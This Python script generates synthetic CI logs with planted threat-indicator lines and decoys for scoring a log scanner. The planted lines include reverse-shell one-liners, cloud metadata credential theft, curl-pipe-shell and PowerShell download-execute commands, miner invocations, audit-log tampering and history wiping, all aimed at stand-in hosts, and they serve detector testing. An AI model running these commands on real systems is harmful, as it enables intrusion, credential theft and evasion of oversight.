#!/usr/bin/env python3
"""Generates CI logs holding threat indicators, for recall and decoy scoring.

GitHub Actions and Azure Pipelines log downloads (zip files of per-step
logs, timestamped lines, ##[group] / ##[command] markers), GitLab CI job logs
(ANSI colours, section markers, "$ cmd" echoes) and Jenkins console logs
("[time] + cmd" echoes). Each indicator rule is planted in several spellings,
each spelling several times, among ordinary build output; decoys that must not
fire sit beside them: documentation that names the metadata address, cloud
agents' own metadata requests (cloud-init, the Azure agent, the GCE guest
agent, the ECS agent), a README printed into the log with `curl | sh` in a
Markdown code block, "stratum" as a word, port checks through /dev/tcp and nc
-z, curl piped into jq or tar, and read-only audit-log commands.

  corpus/gen-indicators.py OUT_DIR [--seed 1] [--copies 4]

OUT_DIR/logs/ holds the logs; OUT_DIR/truth.json lists every planted line as
{"path", "line", "rule"} (path relative to OUT_DIR, as ferret records it
when run there: "logs/<zip>!<member>" for members of a zip) and every decoy line as {"path", "line", "decoy"}. Score a
scan with corpus/score-indicators.py. Deterministic for a seed.
"""
import argparse
import base64
import json
import os
import random
import sys
import zipfile

WORDS = ("build test deploy cache restore install compile link package upload download "
         "artifact docker image layer pull push npm pip cargo maven gradle node python "
         "module resolve fetch done ok warning error retry timeout step job stage").split()


def ip(r):
    return "%d.%d.%d.%d" % r.choice([(203, 0, 113, r.randint(1, 254)), (198, 51, 100, r.randint(1, 254)),
                                     (192, 0, 2, r.randint(1, 254))])


def host(r):
    return r.choice(["cdn", "get", "dl", "files", "raw", "pkg"]) + "." + r.choice(
        ["example.com", "example.net", "example.org", "test-mirror.example"])


def port(r):
    return r.choice([80, 443, 4444, 8080, 9001, 1337, 53, r.randint(1025, 65000)])


def role(r):
    return r.choice(["ci-runner", "deploy-role", "BuildAgent", "gh-actions", "jenkins-worker"]) + str(r.randint(1, 99))


def b64_stratum(r):
    pool = "stratum+tcp://%s:%d" % (host(r), r.choice([3333, 4444, 5555, 14444]))
    pad = "x" * r.randint(0, 2)  # the three alignments of the text inside the encoding
    return base64.b64encode((pad + pool).encode()).decode()


# rule id -> spellings (each a function of the random generator giving a line)
POSITIVES = {
    "indicator.aws-imds-credentials": [
        lambda r: "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        lambda r: "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/%s" % role(r),
        lambda r: 'curl -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/%s' % role(r),
        lambda r: "wget -qO- http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/%s" % role(r),
        lambda r: "curl http://instance-data/latest/meta-data/iam/security-credentials/",
        lambda r: "python3 -c \"import urllib.request as u; print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/%s').read())\"" % role(r),
    ],
    "indicator.aws-ecs-task-credentials": [
        lambda r: "curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
        lambda r: "curl http://169.254.170.2${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI} | jq .",
        lambda r: "wget -qO- http://169.254.170.2/v2/credentials/%08x-%04x-4%03x-8%03x-%012x" % (
            r.getrandbits(32), r.getrandbits(16), r.getrandbits(12), r.getrandbits(12), r.getrandbits(48)),
    ],
    "indicator.gcp-metadata-token": [
        lambda r: 'curl -s -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
        lambda r: "curl -H Metadata-Flavor:Google 'http://metadata/computeMetadata/v1/instance/service-accounts/default/identity?audience=https://%s'" % host(r),
        lambda r: 'wget --header "Metadata-Flavor: Google" -qO- http://169.254.169.254/computeMetadata/v1/instance/service-accounts/ci%d@proj.iam.gserviceaccount.com/token' % r.randint(1, 99),
    ],
    "indicator.azure-imds-identity-token": [
        lambda r: "curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'",
        lambda r: 'Invoke-RestMethod -Headers @{Metadata="true"} -Uri "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2019-08-01&resource=https%3A%2F%2Fvault.azure.net"',
        lambda r: "wget --header=Metadata:true -qO- 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://storage.azure.com/'",
    ],
    "indicator.alibaba-metadata-credentials": [
        lambda r: "curl http://100.100.100.200/latest/meta-data/ram/security-credentials/%s" % role(r),
        lambda r: "wget -qO- http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    ],
    "indicator.aws-cloudtrail-tampering": [
        lambda r: "aws cloudtrail stop-logging --name %s" % r.choice(["management-events", "org-trail", "audit"]),
        lambda r: "aws --region us-east-%d cloudtrail delete-trail --name org-trail" % r.randint(1, 2),
        lambda r: "aws cloudtrail update-trail --name org-trail --no-is-multi-region-trail",
        lambda r: "aws cloudtrail put-event-selectors --trail-name audit --event-selectors '[{\"ReadWriteType\": \"None\"}]'",
    ],
    "indicator.azure-diagnostic-settings-delete": [
        lambda r: "az monitor diagnostic-settings delete --name audit-%d --resource $KV_ID" % r.randint(1, 9),
        lambda r: "az monitor diagnostic-settings subscription delete --name activity-log --yes",
        lambda r: "Remove-AzDiagnosticSetting -ResourceId $vault.ResourceId -Name audit",
    ],
    "indicator.gcp-logging-sink-delete": [
        lambda r: "gcloud logging sinks delete audit-export-%d --quiet" % r.randint(1, 9),
        lambda r: "gcloud beta logging sinks delete org-audit --organization=%d" % r.randint(10 ** 11, 10 ** 12),
        lambda r: "gcloud logging sinks update audit-export --disabled",
    ],
    "indicator.github-audit-stream-delete": [
        lambda r: "gh api -X DELETE /enterprises/acme/audit-log/streams/%d" % r.randint(1, 99),
        lambda r: 'curl -s -X DELETE -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/enterprises/acme/audit-log/streams/%d' % r.randint(1, 99),
        lambda r: "gh api /enterprises/acme/audit-log/streams/%d --method DELETE" % r.randint(1, 99),
    ],
    "indicator.azure-devops-audit-stream-tampering": [
        lambda r: 'curl -u :$PAT -X DELETE "https://auditservice.dev.azure.com/contoso/_apis/audit/streams/%d?api-version=7.1-preview.1"' % r.randint(1, 99),
        lambda r: 'curl -u :$PAT -X PUT "https://auditservice.dev.azure.com/contoso/_apis/audit/streams/%d?status=disabledByUser&api-version=7.1-preview.1"' % r.randint(1, 99),
    ],
    "indicator.reverse-shell-dev-tcp": [
        lambda r: "bash -i >& /dev/tcp/%s/%d 0>&1" % (ip(r), port(r)),
        lambda r: "bash -c 'sh -i >& /dev/udp/%s/%d 0>&1'" % (ip(r), port(r)),
        lambda r: "/bin/bash -i 5<> /dev/tcp/%s/%d 0<&5 1>&5 2>&5" % (ip(r), port(r)),
    ],
    "indicator.reverse-shell-netcat": [
        lambda r: "nc -e /bin/sh %s %d" % (ip(r), port(r)),
        lambda r: "ncat %s %d --ssl -e /bin/bash" % (ip(r), port(r)),
        lambda r: "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc %s %d > /tmp/f" % (ip(r), port(r)),
    ],
    "indicator.reverse-shell-socat": [
        lambda r: "socat tcp-connect:%s:%d exec:'bash -li',pty,stderr,setsid,sigint,sane" % (ip(r), port(r)),
        lambda r: "socat TCP:%s:%d EXEC:/bin/sh" % (ip(r), port(r)),
    ],
    "indicator.reverse-shell-awk": [
        lambda r: "awk 'BEGIN {s = \"/inet/tcp/0/%s/%d\"; while (1) {s |& getline c; while ((c |& getline o) > 0) print o |& s; close(c)}}'" % (ip(r), port(r)),
    ],
    "indicator.reverse-shell-python": [
        lambda r: "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"%s\",%d));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'" % (ip(r), port(r)),
        lambda r: "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"%s\",%d));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'" % (ip(r), port(r)),
    ],
    "indicator.reverse-shell-perl": [
        lambda r: "perl -e 'use Socket;$i=\"%s\";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'" % (ip(r), port(r)),
    ],
    "indicator.mining-stratum-url": [
        lambda r: "./xmrig -o stratum+tcp://%s:%d -u 4%s -p x" % (host(r), r.choice([3333, 4444]), "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZ123456789") for _ in range(40))),
        lambda r: "MINER_URL=stratum+ssl://%s:443" % host(r),
        lambda r: "Connecting to pool stratum+udp://%s:%d" % (ip(r), r.choice([9999, 3333])),
    ],
    "indicator.mining-miner-flags": [
        lambda r: "./xmrig --donate-level %d -o %s:443 -k --tls" % (r.randint(0, 5), host(r)),
        lambda r: "/tmp/.x/kworker --algo=rx/0 --cpu-max-threads-hint=%d -o %s:80" % (r.randint(50, 100), ip(r)),
        lambda r: "./t-rex --algo kawpow -o %s:8888 -u RVNwallet.rig%d" % (host(r), r.randint(1, 9)),
    ],
    "indicator.mining-stratum-base64": [
        lambda r: "echo %s | base64 -d > /tmp/.pool" % b64_stratum(r),
        lambda r: "POOL=%s" % b64_stratum(r),
    ],
    "indicator.curl-pipe-shell": [
        lambda r: "curl -fsSL https://%s/install.sh | sh" % host(r),
        lambda r: "wget -qO- https://%s/x.sh | sudo -E bash -s -- --quiet" % ip(r),
        lambda r: "curl -s https://%s/p.py | python3 -" % host(r),
        lambda r: "curl -sSL https://%s/setup | bash" % host(r),
    ],
    "indicator.shell-process-substitution-download": [
        lambda r: "bash <(curl -s https://%s/setup.sh)" % ip(r),
        lambda r: "source <(wget -qO- https://%s/env.sh)" % host(r),
        lambda r: '/bin/bash -c "$(curl -fsSL https://%s/install.sh)"' % host(r),
    ],
    "indicator.powershell-download-execute": [
        lambda r: "iex (iwr https://%s/a.ps1 -UseBasicParsing)" % ip(r),
        lambda r: "IEX (New-Object Net.WebClient).DownloadString('https://%s/p.ps1')" % host(r),
        lambda r: "irm https://%s/install.ps1 | iex" % host(r),
    ],
    "indicator.history-disabled": [
        lambda r: "history -c",
        lambda r: "export HISTFILE=/dev/null",
        lambda r: "unset HISTFILE",
        lambda r: "set +o history",
    ],
    "indicator.history-file-wiped": [
        lambda r: "cat /dev/null > ~/.bash_history",
        lambda r: "rm -f $HOME/.bash_history",
        lambda r: "ln -sf /dev/null /root/.bash_history",
        lambda r: "truncate -s 0 ~/.zsh_history",
    ],
    "indicator.gitlab-ci-debug-trace": [
        lambda r: "++ export CI_DEBUG_TRACE='true'",
        lambda r: "CI_DEBUG_TRACE=true",
    ],
    "indicator.azure-pipelines-system-debug": [
        lambda r: "SYSTEM_DEBUG=true",
        lambda r: "system.debug: true",
    ],
    "indicator.github-actions-debug": [
        lambda r: "ACTIONS_STEP_DEBUG: true",
        lambda r: "ACTIONS_RUNNER_DEBUG=true",
    ],
}

# decoys: what a log says every day that names the same services and tools
DECOYS = {
    "imds-documentation": [
        lambda r: "The EC2 instance metadata service is reachable at http://169.254.169.254/latest/meta-data/ from the instance.",
        lambda r: "Note: credentials come from the instance role (169.254.169.254) when no keys are set.",
        lambda r: "botocore.utils: Unable to connect to 169.254.169.254 to fetch instance metadata; using environment credentials",
    ],
    "cloud-init": [
        lambda r: "cloud-init[%d]: url_helper.py[DEBUG]: [0/1] open 'http://169.254.169.254/2009-04-04/meta-data/instance-id' with {'url': 'http://169.254.169.254/2009-04-04/meta-data/instance-id', 'timeout': 5.0} configuration" % r.randint(500, 999),
        lambda r: "cloud-init[%d]: url_helper.py[DEBUG]: [0/1] open 'http://169.254.169.254/latest/api/token' with {'method': 'PUT', 'headers': {'X-aws-ec2-metadata-token-ttl-seconds': '21600'}}" % r.randint(500, 999),
        lambda r: "cloud-init[%d]: DataSourceEc2.py[DEBUG]: Fetching Ec2 IMDSv2 API Token" % r.randint(500, 999),
    ],
    "azure-agent": [
        lambda r: "WALinuxAgent-2.9.1.1 INFO ExtHandler Fetch goal state from http://168.63.129.16/machine/?comp=goalstate",
        lambda r: "WALinuxAgent-2.9.1.1 INFO Daemon GET http://169.254.169.254/metadata/instance?api-version=2021-02-01 [200]",
        lambda r: "Agent.Listener: IMDS health probe http://169.254.169.254/metadata/instance/compute?api-version=2021-02-01 ok",
    ],
    "gce-agent": [
        lambda r: "google_guest_agent[%d]: GET http://metadata.google.internal/computeMetadata/v1/instance/attributes/?recursive=true&wait_for_change=true" % r.randint(500, 999),
        lambda r: "google_guest_agent[%d]: Checking metadata.google.internal for OS Login keys" % r.randint(500, 999),
    ],
    "ecs-agent": [
        lambda r: "ecs-agent: task metadata served at http://169.254.170.2/v2/metadata",
        lambda r: "chronyd[%d]: Selected source 169.254.169.123 (stratum %d)" % (r.randint(300, 900), r.randint(2, 4)),
    ],
    "stratum-word": [
        lambda r: "ntpd[%d]: synchronized to 10.0.0.1, stratum %d" % (r.randint(300, 900), r.randint(1, 4)),
        lambda r: "Reference ID: stratum %d time source, offset 0.000%d s" % (r.randint(1, 4), r.randint(1, 9)),
        lambda r: "geology-tests: layer=stratum depth=%d ok" % r.randint(1, 99),
    ],
    "port-check": [
        lambda r: "timeout 1 bash -c '</dev/tcp/postgres/5432' && echo up",
        lambda r: "nc -z -w 2 localhost %d" % r.choice([5432, 6379, 3306]),
        lambda r: "until nc -z redis 6379; do sleep 1; done",
    ],
    "harmless-pipes": [
        lambda r: "curl -s https://api.%s/v1/items | jq .name" % host(r),
        lambda r: "curl -sL https://%s/tool.tar.gz | tar xz" % host(r),
        lambda r: "curl -s https://api.%s/v1 | python -m json.tool" % host(r),
        lambda r: "curl -sL https://%s/f | shasum -a 256" % host(r),
    ],
    "read-only-audit": [
        lambda r: "aws cloudtrail describe-trails",
        lambda r: "aws cloudtrail lookup-events --max-results %d" % r.randint(5, 50),
        lambda r: "gcloud logging sinks list",
        lambda r: "az monitor diagnostic-settings list --resource $ID",
    ],
    "history-words": [
        lambda r: "history | tail -5",
        lambda r: "HISTFILE=~/.bash_history_ci",
        lambda r: "CI_DEBUG_TRACE: \"false\"",
        lambda r: "ACTIONS_STEP_DEBUG=false",
        lambda r: "Set system.debug to true to see more output.",
    ],
    "base64-noise": [
        lambda r: "echo %s | base64 -d" % base64.b64encode(bytes(r.getrandbits(8) for _ in range(30))).decode(),
        lambda r: "c3RyYXR1bQ== is the base64 of the word stratum",
    ],
}

# A README printed into the log: commands in a fenced code block are documentation.
README = [
    "# Installing the tool",
    "",
    "Run the installer:",
    "",
    "```sh",
    "curl -fsSL https://get.example.com/install.sh | sh",
    "bash <(curl -s https://get.example.com/setup.sh)",
    "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "```",
    "",
    "That is all.",
]

STYLES = ("gha", "azure", "gitlab", "jenkins")


class Log:
    """One log being written: lines in a style, with what each planted line is."""

    def __init__(self, r, style):
        self.r, self.style, self.lines, self.marks = r, style, [], []
        self.t = r.randint(0, 3000)

    def stamp(self):
        self.t += 1
        m, s = divmod(self.t % 3600, 60)
        if self.style in ("gha", "azure"):
            return "2026-03-04T05:%02d:%02d.%07dZ " % (m, s, self.r.randint(0, 9999999))
        if self.style == "jenkins":
            return "[2026-03-04T05:%02d:%02d.%03dZ] " % (m, s, self.r.randint(0, 999))
        return ""

    def add(self, text, mark=None, command=False):
        r, st = self.r, self.style
        if command and st == "gha":
            line = self.stamp() + r.choice(["##[group]Run ", "", "  "]) + text
        elif command and st == "azure":
            line = self.stamp() + r.choice(["##[command]", "", "  "]) + text
        elif command and st == "gitlab":
            line = "\x1b[32;1m$ " + text + "\x1b[0;m"
        elif command and st == "jenkins":
            line = self.stamp() + "+ " + text
        elif st == "gitlab" and r.random() < 0.1:
            line = "\x1b[0;33m" + text + "\x1b[0;m"
        else:
            line = self.stamp() + text
        self.lines.append(line)
        if mark:
            self.marks.append((len(self.lines), mark))

    def noise(self, n):
        for _ in range(n):
            self.add(" ".join(self.r.choice(WORDS) for _ in range(self.r.randint(3, 12))))

    def data(self):
        eol = "\r\n" if self.style == "gha" else "\n"
        return (eol.join(self.lines) + eol).encode()


def write(out, r, logs_by_file, truth):
    """logs_by_file: [(name, [(member or None, Log)])]."""
    for name, members in logs_by_file:
        path = os.path.join(out, "logs", name)
        if members[0][0] is None:
            with open(path, "wb") as f:
                f.write(members[0][1].data())
        else:
            with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
                for m, lg in members:
                    z.writestr(m, lg.data())
        for m, lg in members:
            rel = os.path.join("logs", name)  # as scanned from OUT_DIR
            shown = rel if m is None else rel + "!" + m
            for line, mark in lg.marks:
                e = {"path": shown, "line": line}
                e.update(mark)
                truth.append(e)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--copies", type=int, default=4, help="times each spelling is planted")
    a = ap.parse_args()
    r = random.Random(a.seed)
    os.makedirs(os.path.join(a.out, "logs"), exist_ok=True)
    # every planted line and decoy, shuffled over jobs of every style
    items = []
    for rule, spellings in POSITIVES.items():
        for k, sp in enumerate(spellings):
            for _ in range(a.copies):
                items.append(("pos", rule, k, sp))
    for what, spellings in DECOYS.items():
        for k, sp in enumerate(spellings):
            for _ in range(a.copies):
                items.append(("decoy", what, k, sp))
    r.shuffle(items)
    njobs = 24
    jobs = [Log(r, STYLES[i % 4]) for i in range(njobs)]
    for lg in jobs:
        lg.noise(r.randint(20, 60))
    for i, (kind, what, k, sp) in enumerate(items):
        lg = jobs[r.randrange(njobs)]
        text = sp(r)
        if kind == "pos":
            lg.add(text, {"rule": what, "spelling": k}, command=True)
        else:
            lg.add(text, {"decoy": what, "spelling": k}, command=what in ("port-check", "harmless-pipes", "read-only-audit"))
        lg.noise(r.randint(1, 8))
        if i % 40 == 0:  # a README shown by `cat README.md`
            lg.add("cat README.md", command=True)
            for ln in README:
                lg.add(ln, {"decoy": "readme-code-block", "spelling": 0} if ln and not ln.startswith(("#", "```", "Run", "That")) else None)
            lg.noise(r.randint(1, 5))
    files = []
    for i in range(0, njobs, 4):  # gha and azure: zips of steps; gitlab, jenkins: plain logs
        g, az, gl, jk = jobs[i:i + 4]
        files.append(("gha_logs_%d.zip" % i, [("build/%d_%s.txt" % (i + 1, r.choice(WORDS)), g)]))
        files.append(("azure_logs_%d.zip" % i, [("Job/%d_%s.txt" % (i + 1, r.choice(WORDS)), az)]))
        files.append(("gitlab_job_%d.log" % i, [(None, gl)]))
        files.append(("jenkins_console_%d.log" % i, [(None, jk)]))
    truth = []
    write(a.out, r, files, truth)
    with open(os.path.join(a.out, "truth.json"), "w") as f:
        json.dump(truth, f, indent=0)
    npos = sum("rule" in t for t in truth)
    print("%s: %d files, %d planted indicator lines, %d decoy lines" % (a.out, len(files), npos, len(truth) - npos),
          file=sys.stderr)


if __name__ == "__main__":
    main()
